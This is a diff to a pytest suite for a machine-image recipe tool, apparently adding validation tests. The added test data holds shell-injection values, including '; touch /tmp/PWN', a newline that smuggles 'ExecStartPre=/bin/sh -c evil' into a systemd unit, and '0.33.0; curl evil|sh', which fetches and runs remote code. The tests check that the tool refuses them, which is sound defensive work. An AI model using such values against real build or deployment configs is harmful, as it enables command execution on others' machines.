@@ -500,11 +500,26 @@ def test_a_layout_value_that_would_break_a_script_or_unit_is_refused(capsys, tmp
         (("downloads", 1, "mode"), 0o644, "recipe.downloads.1.mode", 'quote it, "0644"'),  # YAML's unquoted 0644
         (("apt_repos", 0, "line"), "deb\n[signed-by=/k.gpg] https://x /", "recipe.apt_repos.0.line", "is not one line"),
         # free text went into the shell unquoted: a space made the step impossible, `;` ran (review finding 7)
-        (("apt_repos", 0, "name"), "nvidia cuda", "recipe.apt_repos.0.name", "'nvidia cuda' is not an apt repository name"),
-        (("apt_repos", 0, "name"), "x;touch${IFS}/tmp/PWNED;y", "recipe.apt_repos.0.name", "is not an apt repository name"),
-        (("apt_repos", 0, "name"), "../../cron.d/x", "recipe.apt_repos.0.name", "is not an apt repository name"),
+        (("apt_repos", 0, "name"), "nvidia cuda", "recipe.apt_repos.0.name", "'nvidia cuda' is not an apt source name"),
+        (("apt_repos", 0, "name"), "x;touch${IFS}/tmp/PWNED;y", "recipe.apt_repos.0.name", "is not an apt source name"),
+        (("apt_repos", 0, "name"), "../../cron.d/x", "recipe.apt_repos.0.name", "is not an apt source name"),
         (("apt_packages", 2, "name"), "prometheus-node-exporter; reboot", "recipe.apt_packages.2.name", "not a Debian package"),
         (("apt_packages", 2, "version"), "1.7.0 -1", "recipe.apt_packages.2.version", "is not a Debian version"),
+        # written unquoted into /etc/apt/sources.list.d/<name>.list of the scripts: a ';' ran a command on the builder
+        (("apt_repos", 0, "name"), "x; touch /tmp/PWN; echo", "recipe.apt_repos.0.name", "is not an apt source name"),
+        (("apt_repos", 0, "keyring_path"), "/usr/share/k\nevil", "recipe.apt_repos.0.keyring_path", "not an absolute path"),
+        (
+            ("python_tools",),
+            [{"package": "x", "version": "1.0\nevil", "command": "x"}],
+            "recipe.python_tools.0.version",
+            "is not a version",
+        ),
+        (
+            ("python_tools",),
+            [{"package": "x y", "version": "1.0", "command": "x"}],
+            "recipe.python_tools.0.package",
+            "not a PyPI project",
+        ),
     ],
 )
 @pytest.mark.parametrize("command", [["image", "check"], ["image", "render"]])
@@ -681,14 +696,35 @@ def test_a_driver_package_without_a_version_yet_is_a_build_blocker_not_a_crash(c
         ("driver", "r580", "recipe.pins.driver: 'r580' is not a version: write the driver's version, e.g. 580.95.05"),
         ("cuda", "thirteen", "recipe.pins.cuda: 'thirteen' is not a version: write major.minor, e.g. 13.0"),
         ("python", "py3", "recipe.pins.python: 'py3' is not a version: write 3.minor, e.g. 3.12"),
+        # review F1: these four were free text, written into the serving unit (a newline there added a line to it)
+        ("vllm", "0.33.0\nExecStartPre=/bin/sh -c evil", "recipe.pins.vllm: '0.33.0\\nExecStartPre=/bin/sh -c evil' is not a"),
+        ("vllm", "0.33.0; curl evil|sh", "recipe.pins.vllm: '0.33.0; curl evil|sh' is not a version"),
+        ("torch", "2.14.0\nX=evil", "recipe.pins.torch: '2.14.0\\nX=evil' is not a version"),
+        ("torch", "2.14.0+cu130", "recipe.pins.torch: '2.14.0+cu130' is not a version"),  # the check cuts pip's at +
+        ("dcgm", "4.4.1\nX=evil", "recipe.pins.dcgm: '4.4.1\\nX=evil' is not a version"),
+        ("dcgm", "1:4.4.1-1", "recipe.pins.dcgm: '1:4.4.1-1' is not a version: write DCGM's release, without the Debian"),
+        ("node_exporter", "1.7.0\nX=evil", "recipe.pins.node_exporter: '1.7.0\\nX=evil' is not a version"),
+        ("nccl", "2.21 5", "recipe.pins.nccl: '2.21 5' is not a version: write one word"),  # a pin of the recipe's own
     ],
 )
-@pytest.mark.parametrize("command", [["image", "check"], ["image", "build", "--dry-run"], ["image", "check", "--gpu", "A10"]])
-def test_a_pin_compat_reads_as_numbers_that_is_no_version_is_refused(capsys, tmp_path, pin, value, said, command):
+@pytest.mark.parametrize(
+    "command",
+    [["image", "check"], ["image", "build", "--dry-run"], ["image", "check", "--gpu", "A10"], ["image", "render", "--out-dir"]],
+)
+def test_a_pin_that_is_no_version_is_refused(capsys, tmp_path, pin, value, said, command):
     pins = {**yaml.safe_load(SHIPPED.read_text())["pins"], pin: value}
     path = variant(tmp_path, pins=pins)
-    r = run_cli([*command, "-r", path], capsys)
+    r = run_cli([*command, *([tmp_path / "out"] if command[-1] == "--out-dir" else []), "-r", path], capsys)
     refused(r, f"{path}: {said}")
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize(
+    "pin, value", [("vllm", "0.6.3.post1"), ("vllm", "0.10.1.1"), ("torch", "2.8.0rc1"), ("dcgm", "3.3.9"), ("nccl", "2.21.5")]
+)
+def test_pins_in_the_forms_their_projects_release_load(tmp_path, pin, value):
+    pins = {**yaml.safe_load(SHIPPED.read_text())["pins"], pin: value}
+    assert load_recipe(str(variant(tmp_path, pins=pins))).pins[pin] == value
 
 
 def test_a_recipe_pinning_no_gpu_line_checked_against_a_gpu_or_a_lock_is_a_failed_check(capsys, tmp_path):
